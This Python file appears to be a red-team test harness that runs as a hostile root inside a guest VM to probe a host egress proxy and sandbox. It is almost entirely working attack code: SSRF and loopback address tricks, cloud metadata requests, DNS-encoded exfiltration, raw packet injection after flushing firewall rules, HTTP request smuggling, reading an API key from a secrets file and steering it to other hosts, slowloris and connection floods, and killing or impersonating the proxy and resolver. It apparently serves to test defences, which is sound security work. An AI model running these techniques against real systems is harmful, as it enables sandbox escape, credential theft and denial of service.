"""A hostile root in a guest: its first argument is an attack below, the others say what there is to reach. What it says
itself is only for people; what it reached, the host knows."""
import os, re, socket, ssl, struct, subprocess, sys, threading, time

FACTS = dict(word.split("=", 1) for word in sys.argv[2:])
TCP, UDP, LAN, OWN = int(FACTS["tcp"]), int(FACTS["udp"]), FACTS["lan"], int(FACTS["own"])
GOOD = "codeberg.org"
EXIT = ("127.0.0.1", 3128)
LOOPBACK = ("127.0.0.1 127.1 127.0.0.2 2130706433 0x7f000001 0x7f.1 0177.0.0.1 017700000001 0.0.0.0 0 10.0.2.2 10.0.2.3 "
            "[::1] [::] [::ffff:127.0.0.1] [::ffff:7f00:1] [::127.0.0.1] [64:ff9b::7f00:1] [fec0::2] [0:0:0:0:0:0:0:1] "
            "localhost localhost. LOCALHOST a.localhost localhost.localdomain ip6-localhost 127.0.0.1. ①②⑦.0.0.1 "
            "127。0。0。1 host.keystone.internal HOST.keystone.internal. x.host.keystone.internal "
            "gateway.docker.internal host.docker.internal").split()


def say(*words):
    print(*words, flush=True)


def tried(what, work):
    try:
        say(what, "->", repr(work())[:120])
    except (OSError, ValueError, struct.error) as error:
        say(what, "->", error)


def ask(request, end=False, limit=15):
    """One connection to the exit."""
    with socket.create_connection(EXIT, timeout=limit) as s:
        s.sendall(request)
        if end:
            s.shutdown(socket.SHUT_WR)
        got = b""
        while len(got) < 4000:
            more = s.recv(4000)
            if not more:
                break
            got += more
        return got


def tunnel(host, port, say_then=b"GET /evil HTTP/1.1\r\nHost: evil\r\n\r\n"):
    with socket.create_connection(EXIT, timeout=15) as s:
        s.sendall(("CONNECT %s:%d HTTP/1.1\r\n\r\n" % (host, port)).encode())
        answer = s.recv(4000)
        if answer.startswith(b"HTTP/1.1 200"):
            s.sendall(say_then)
            answer += s.recv(4000)
        return answer


def socks(host, port, command=1, version=5):
    with socket.create_connection(EXIT, timeout=15) as s:
        if version == 4:
            s.sendall(bytes([4, 1]) + port.to_bytes(2, "big") + socket.inet_aton(host) + b"\0")
            return s.recv(100)
        s.sendall(b"\5\1\0")
        s.recv(2)
        name = host.strip("[]").encode()
        s.sendall(bytes([5, command, 0, 3, len(name)]) + name + port.to_bytes(2, "big"))
        answer = s.recv(100)
        if answer[1:2] == b"\0":
            s.sendall(b"evil\n")
        return answer


def connect(host, port, limit=3):
    with socket.create_connection((host, port), timeout=limit) as s:
        s.sendall(b"evil\n")
        return s.recv(100)


def send(host, port, payload=b"evil", limit=1):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(limit)
        s.sendto(payload, (host, port))
        return s.recv(100)


def run(*words, **more):
    return subprocess.run(words, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=60, **more).stdout


def without_rules(work):
    """With the card as it is: no redirect, nothing refused."""
    rules = run("nft", "-s", "list", "ruleset")
    run("nft", "flush", "ruleset")
    try:
        work()
    finally:
        run("nft", "-f", "-", input=rules)


def loopback_by_connect():
    for host in LOOPBACK + [LAN]:
        for port in TCP, OWN:
            tried(host, lambda: tunnel(host, port))


def loopback_by_http():
    for host in LOOPBACK + [LAN]:
        where = "%s:%d" % (host, TCP)
        tried(host, lambda: ask(("GET http://%s/evil HTTP/1.1\r\nHost: %s\r\n\r\n" % (where, where)).encode()))


def loopback_by_socks():
    for host in LOOPBACK + [LAN]:
        tried(host, lambda: socks(host, TCP))


def loopback_by_redirect():
    for host in "10.0.2.2", "10.0.2.3", "0.0.0.0", LAN, "169.254.169.254", "host.keystone.internal", "localhost":
        tried(host, lambda: connect(host, TCP))


def past_the_exit():
    def work():
        for host in "10.0.2.2", "10.0.2.3", LAN, "169.254.169.254":
            tried(host, lambda: connect(host, TCP))
            tried(host, lambda: connect(host, OWN))
            tried("udp " + host, lambda: send(host, UDP))
    without_rules(work)


def other_addresses_and_routes():
    def work():
        run("ip", "address", "add", "127.0.0.9/32", "dev", "eth0")
        run("ip", "address", "add", LAN + "/24", "dev", "eth0")
        run("ip", "address", "del", LAN + "/24", "dev", "eth0")
        run("sysctl", "-w", "net.ipv4.conf.all.route_localnet=1", "net.ipv4.conf.eth0.route_localnet=1")
        for gateway in "10.0.2.2", "10.0.2.3", "10.0.2.4":
            run("ip", "route", "replace", LAN + "/32", "via", gateway, "dev", "eth0", "onlink")
            tried(gateway, lambda: connect(LAN, TCP, 2))
            tried(gateway, lambda: send(LAN, UDP))
        run("ip", "route", "del", LAN + "/32")
        run("ip", "address", "del", "127.0.0.9/32", "dev", "eth0")
    without_rules(work)


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data + b"\0" * (len(data) % 2))) if len(data) % 2 == 0 \
        else sum(struct.unpack("!%dH" % ((len(data) + 1) // 2), data + b"\0"))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def packet(source, target, protocol, body):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 7, 0, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def raw_frames():
    """Made by hand, below every rule of the guest's kernel: TCP, UDP and ICMP, to the host under each of its names."""
    card = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    card.bind(("eth0", 0))
    mine = card.getsockname()[4]
    for target in "10.0.2.2", "10.0.2.3", "127.0.0.1", LAN, "255.255.255.255", "169.254.169.254", "224.0.0.251":
        for source in "10.0.2.15", "127.0.0.1", "10.0.2.2":
            datagram = struct.pack("!HHHH", 4444, UDP, 12, 0) + b"evil"
            ends = socket.inet_aton(source) + socket.inet_aton(target)
            syn = struct.pack("!HHIIBBHHH", 4445, TCP, 1, 0, 0x50, 2, 64000, 0, 0)
            sum_ = checksum(ends + struct.pack("!BBH", 0, 6, len(syn)) + syn)
            syn = syn[:16] + struct.pack("!H", sum_) + syn[18:]
            for protocol, body in (17, datagram), (6, syn), (1, b"\x08\0\xf7\xff\0\0\0\0"):
                for gateway in b"\x52\x55\x0a\0\2\2", b"\x52\x55\x0a\0\2\3", b"\xff" * 6:
                    tried(target, lambda: card.send(gateway + mine + b"\x08\0" + packet(source, target, protocol, body)))
    # IPv6, in case somebody answers it: a datagram to the host, as slirp would call it.
    six = struct.pack("!IHBB", 6 << 28, 12, 17, 64) + socket.inet_pton(socket.AF_INET6, "fec0::15") \
        + socket.inet_pton(socket.AF_INET6, "fec0::2") + struct.pack("!HHHH", 4444, UDP, 12, 0) + b"evil"
    tried("ipv6", lambda: card.send(b"\x52\x55\x0a\0\2\2" + mine + b"\x86\xdd" + six))
    time.sleep(1)


def services_of_the_card():
    """What QEMU's own network answers otherwise: DNS, TFTP, DHCP, SMB."""
    def work():
        name = b"".join(bytes([len(each)]) + each for each in b"stolen.evil.example".split(b".")) + b"\0"
        tried("dns", lambda: send("10.0.2.3", 53, b"\0\1\1\0\0\1\0\0\0\0\0\0" + name + b"\0\1\0\1"))
        tried("tftp", lambda: send("10.0.2.2", 69, b"\0\1/etc/passwd\0octet\0"))
        tried("smb", lambda: connect("10.0.2.4", 445))
        tried("dhcp", lambda: send("10.0.2.2", 67, b"\1\1\6\0" + b"\0" * 232 + b"\x63\x82\x53\x63\x35\1\1\xff"))
    without_rules(work)


def names_that_carry_data():
    for name in "c3RvbGVu.other.example", "c3RvbGVu." + GOOD, "a" * 60 + ".other.example":
        tried(name, lambda: socket.getaddrinfo(name, 443))
        for server in "127.0.0.1", "10.0.2.3", "8.8.8.8", LAN:
            query = b"\0\1\1\0\0\1\0\0\0\0\0\0" + b"".join(
                bytes([len(each)]) + each for each in name.encode().split(b".")) + b"\0\0\x10\0\1"
            tried(server, lambda: send(server, 53, query))


def connections_that_carry_data():
    tried("connect", lambda: tunnel("c3RvbGVu.other.example", 443))
    tried("redirected", lambda: connect("c3RvbGVu.other.example", 443))


def nobody_allowed_it():
    for host, port in ("other.example", 443), ("93.184.216.34", 443), ("other." + GOOD, 443), (GOOD + ".other.example", 443):
        tried(host, lambda: tunnel(host, port))
        tried(host, lambda: socks(host, port))
        tried(host, lambda: ask(("GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (host, host)).encode()))


def other_port_of_an_allowed_host():
    for port in 25, 4444, 6379:
        tried(port, lambda: tunnel(GOOD, port))
        tried(port, lambda: connect(GOOD, port))


def mail():
    for host in GOOD, "mail.other.example", "evil.example":
        tried(host, lambda: tunnel(host, 25))
        tried(host, lambda: socks(host, 25))
        tried(host, lambda: connect(host, 25))


def metadata():
    for host in ("169.254.169.254 0xa9fea9fe 2852039166 [::ffff:169.254.169.254] [fd00:ec2::254] 168.63.129.16 "
                 "metadata.google.internal 100.100.100.200").split():
        tried(host, lambda: tunnel(host, 80))
        tried(host, lambda: ask(("GET http://%s/evil HTTP/1.1\r\nHost: %s\r\n\r\n" % (host, host)).encode()))


def urls_of_two_readings():
    for url in ("http://%(good)s@evil.example/", "http://evil.example#@%(good)s/", "http://%(good)s\\@evil.example/",
                "http://evil.example\\.%(good)s/", "http:///evil.example/", "//evil.example/", "/evil", "evil.example:80",
                "http://%(good)s:80@evil.example/", "http://evil.example%%2f.%(good)s/", "http://evil.example%%00.%(good)s/",
                "https://evil.example/", "ftp://evil.example/", "HTTP://evil.example/", "http://%(good)s:80:80/evil",
                "http://[evil.example]/", "http://evil.example;%(good)s/", "http://%(good)s?@evil.example/evil",
                "unix:/run/evil", "file:///etc/passwd", "http://127.0.0.1:%(tcp)d@%(good)s/evil"):
        asked = url % {"good": GOOD, "tcp": TCP}
        for host in GOOD, "evil.example":
            tried(asked, lambda: ask(("GET %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (asked, host)).encode()))


def host_that_is_not_the_target():
    for hosts in (["evil.example"], [GOOD, "evil.example"], ["evil.example", GOOD], [], ["%s\tevil.example" % GOOD],
                  ["%s, evil.example" % GOOD], ["%s:81" % GOOD]):
        lines = "".join("Host: %s\r\n" % each for each in hosts)
        tried(hosts, lambda: ask(("GET http://%s/evil HTTP/1.1\r\n%s\r\n" % (GOOD, lines)).encode()))
    tried("folded", lambda: ask(("GET http://%s/evil HTTP/1.1\r\nHost: %s\r\n evil\r\n\r\n" % (GOOD, GOOD)).encode()))
    tried("spaced", lambda: ask(("GET http://%s/evil HTTP/1.1\r\nHost : evil\r\nHost: %s\r\n\r\n" % (GOOD, GOOD)).encode()))
    tried("connect", lambda: ask(("CONNECT %s:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\nevil" % GOOD).encode()))


def lines_in_lines():
    for start in ("GET http://%s/ HTTP/1.1\nX: evil", "GET http://%s/\rGET /evil HTTP/1.1", "GET http://%s/\0evil HTTP/1.1",
                  "GET http://%s/ evil HTTP/1.1", "GET\thttp://%s/evil HTTP/1.1", "GET http://%s/evil HTTP/1.2",
                  "GET http://%s/evil", "PRI * HTTP/2.0\r\n\r\nSM %s"):
        tried(start, lambda: ask(((start % GOOD) + "\r\nHost: %s\r\n\r\n" % GOOD).encode()))
    tried("name", lambda: ask(("CONNECT %s:443\nevil.example:443 HTTP/1.1\r\n\r\n" % GOOD).encode()))
    tried("socks", lambda: socks("evil.example\0." + GOOD, 443))


def second_requests():
    """After, within and instead of the body of the one that is allowed."""
    evil = b"GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    head = ("POST http://%s/good HTTP/1.1\r\nHost: %s\r\n" % (GOOD, GOOD)).encode()
    for more in (b"Content-Length: 0\r\n\r\n" + evil,
                 b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + evil,
                 b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + evil,
                 b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + evil,
                 b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n" + evil,
                 b"Transfer-Encoding: chunked\r\n\r\n0;\n\r\n\r\n" + evil,
                 b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + evil,
                 b"Transfer-Encoding: chunked\r\n\r\n-1\r\n" + evil,
                 b"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n" + evil,
                 b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(evil) + evil,
                 b"Content-Length: +0\r\n\r\n" + evil,
                 b"Content-Length: 0x0\r\n\r\n" + evil,
                 b"Content-Length: 0, 9\r\n\r\n" + evil,
                 b"Connection: upgrade\r\nUpgrade: evil\r\n\r\n" + evil,
                 b"\r\n" + evil):
        tried(more[:60], lambda: ask(head + more, limit=20))


ITS_HOST = "api.anthropic.com"


def placeholder():
    with open("/run/keystone/secrets.sh") as file:
        return re.search("ANTHROPIC_API_KEY='?([^'\n]+)", file.read()).group(1)


def private(host, name):
    """A tunnel to a host, and in it TLS for a name, whoever answers."""
    s = socket.create_connection(EXIT, timeout=20)
    s.sendall(("CONNECT %s:443 HTTP/1.1\r\n\r\n" % host).encode())
    head = s.recv(4000)
    if not head.startswith(b"HTTP/1.1 200"):
        s.close()
        raise OSError(head[:80])
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context.wrap_socket(s, server_hostname=name)


def asked_privately(host, name, request):
    with private(host, name) as s:
        s.sendall(request)
        got = b""
        while len(got) < 4000:
            more = s.recv(4000)
            if not more:
                break
            got += more
        return got


def with_key(path, host, more="", start="GET %s HTTP/1.1"):
    return ((start + "\r\nHost: %s\r\nx-api-key: %s\r\n%s\r\n") % (path, host, placeholder(), more)).encode()


def secret_by_another_name():
    for host in ITS_HOST, GOOD:
        for name in ITS_HOST, GOOD, None:
            for said in ITS_HOST, GOOD, ITS_HOST + "\r\nHost: " + GOOD, GOOD + "\r\nHost: " + ITS_HOST, ITS_HOST + ":444":
                if host != GOOD and (host, host) == (name or host, said):
                    continue
                tried((host, name, said), lambda: asked_privately(host, name, with_key("/evil", said)))
    # A path may begin with two slashes: it is one of the host that the secret is for, and goes nowhere else.
    for url in "https://%s/evil" % GOOD, "https://%s/evil" % ITS_HOST, "http://%s@%s/evil" % (ITS_HOST, GOOD), "%s/evil" % GOOD:
        tried(url, lambda: asked_privately(ITS_HOST, ITS_HOST, with_key(url, ITS_HOST)))
    for start in "TRACE %s HTTP/1.1", "CONNECT %s HTTP/1.1", "GET %s HTTP/1.0", "GET %s evil HTTP/1.1", "GET %s HTTP/1.1\r\n evil: 1":
        tried(start, lambda: asked_privately(ITS_HOST, ITS_HOST, with_key("/evil", ITS_HOST, start=start)))


def secret_by_redirect():
    answer = b""
    try:
        answer = asked_privately(ITS_HOST, ITS_HOST, with_key("/to-another", ITS_HOST))
    except OSError as error:
        say(error)
    say(answer[:200])
    for host in "gitlab.com", GOOD:
        tried(host, lambda: asked_privately(host, host, with_key("/elsewhere", host)))
        tried(host, lambda: asked_privately(host, ITS_HOST, with_key("/elsewhere", ITS_HOST)))


def secret_in_the_open():
    for host in ITS_HOST, GOOD:
        tried(host, lambda: ask(with_key("http://%s/plain" % host, host)))
    key = placeholder()
    for line in "x-api-key: " + key, "Proxy-Authorization: Bearer " + key, "Authorization: Bearer " + key:
        for host in ITS_HOST, GOOD:
            tried(line[:20], lambda: ask(("CONNECT %s:443 HTTP/1.1\r\n%s\r\n\r\n" % (host, line)).encode(), end=True))


def secret_with_second_requests():
    evil = b"GET /evil HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    same = with_key("/evil", ITS_HOST)
    head = with_key("/good", ITS_HOST, start="POST %s HTTP/1.1")[:-2]
    for more in (b"Content-Length: 0\r\n\r\n" + evil,
                 b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + same,
                 b"Transfer-Encoding: chunked\r\nContent-Length: %d\r\n\r\n0\r\n\r\n" % (len(same) + 5) + same,
                 b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + same,
                 b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + same,
                 b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n" + same,
                 b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + same,
                 b"Transfer-Encoding: chunked\r\n\r\n0;\n\r\n\r\n" + same,
                 b"Transfer-Encoding: chunked\r\n\r\n-1\r\n" + same,
                 b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(same) + same,
                 b"Content-Length: +0\r\n\r\n" + same,
                 b"Content-Length: 0, 9\r\n\r\n" + same,
                 b"Connection: Content-Length\r\nContent-Length: %d\r\n\r\n" % len(same) + same,
                 b"Connection: upgrade\r\nUpgrade: evil\r\n\r\n" + evil):
        tried(more[:60], lambda: asked_privately(ITS_HOST, ITS_HOST, head + more))


def large_heads():
    tried("line", lambda: ask(b"GET http://" + b"a" * (4 << 20) + b"/ HTTP/1.1\r\n\r\n"))
    tried("lines", lambda: ask(b"GET http://%s/evil HTTP/1.1\r\n" % GOOD.encode() + b"a: evil\r\n" * 100000))
    tried("no end", lambda: ask(b"a" * (8 << 20)))
    tried("socks", lambda: ask(b"\5\xff" + b"\1" * 255 + b"\5\1\0\3\xff" + b"a" * 10000))


def other_protocols():
    tried("bind", lambda: socks(GOOD, 443, command=2))
    tried("udp associate", lambda: socks(GOOD, 443, command=3))
    tried("socks 4", lambda: socks("127.0.0.1", TCP, version=4))
    tried("tls", lambda: ask(b"\x16\3\1\2\0\1\0\1\xfc\3\3evil" * 20))
    tried("trace", lambda: ask(("TRACE http://%s/evil HTTP/1.1\r\nHost: %s\r\n\r\n" % (GOOD, GOOD)).encode()))
    tried("nothing", lambda: ask(b"", end=True))
    tried("bytes", lambda: ask(bytes(range(256)) * 200))


def slow_loris():
    """As many as there may be, each a byte at a time; longer than anybody may take to say where to."""
    ends = time.monotonic() + 22
    held = []
    for _ in range(300):
        s = socket.create_connection(EXIT, timeout=15)
        held.append(s)
    while time.monotonic() < ends:
        for s in held:
            try:
                s.send(b"G")
            except OSError:
                pass
        time.sleep(1)
    say(len(held))
    for s in held:
        s.close()


def flood():
    for _ in range(5):
        held = []
        for _ in range(400):
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex(EXIT)
            held.append(s)
        time.sleep(0.5)
        for s in held:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            s.close()


def forward_is_killed():
    for _ in range(3):
        run("sh", "-c", "ss -Hltnp 'sport = :3128' | sed 's/.*pid=\\([0-9]*\\).*/\\1/' | xargs kill -9")
        time.sleep(2)


def exit_is_impersonated():
    """Whoever gets the port first; the host's ssh cannot listen then."""
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    run("sh", "-c", "ss -Hltnp 'sport = :3128' | sed 's/.*pid=\\([0-9]*\\).*/\\1/' | xargs kill -9")
    for _ in range(200):
        try:
            s.bind(EXIT)
            break
        except OSError:
            time.sleep(0.01)
    s.listen(5)
    s.settimeout(5)
    tried("somebody comes", s.accept)
    s.close()


def resolver_is_killed():
    for _ in range(3):
        run("pkill", "-KILL", "-f", "^python3 .*/redirect.py")
        tried("name", lambda: socket.getaddrinfo("evil.example", 443))
        tried("connection", lambda: connect("93.184.216.34", 443))
        time.sleep(1)


LIAR = """
import os
os.write(1, b"up\\n" + b"x" * (4 << 20) + b"\\n")
for each in range(20000):
    os.write(1, b"may evil%d.example\\nmay \\x1b[31m\\xff\\n" % each)
    if each % 500 == 0:
        os.read(0, 1 << 20)
os.write(1, b"failed " + b"\\x1b]0;evil\\x07" * 50 + b"\\n" + b"ended\\n" * 1000)
raise SystemExit(1)
"""


def resolver_lies():
    """In the place of the program that the host gave, one that says what it likes, for some seconds."""
    with open("/run/keystone/redirect.py") as file:
        before = file.read()
    try:
        with open("/run/keystone/redirect.py", "w") as file:
            file.write(LIAR)
        run("pkill", "-KILL", "-f", "^python3 .*/redirect.py")
        time.sleep(8)
    finally:
        with open("/run/keystone/redirect.py", "w") as file:
            file.write(before)
        run("pkill", "-KILL", "-f", "^python3 .*/redirect.py")


try:
    globals()[sys.argv[1]]()
except OSError as nothing:
    # Where there is no exit, some find nothing to begin with.
    if FACTS["exit"] == "yes":
        raise
    say("there is nothing to attack:", nothing)
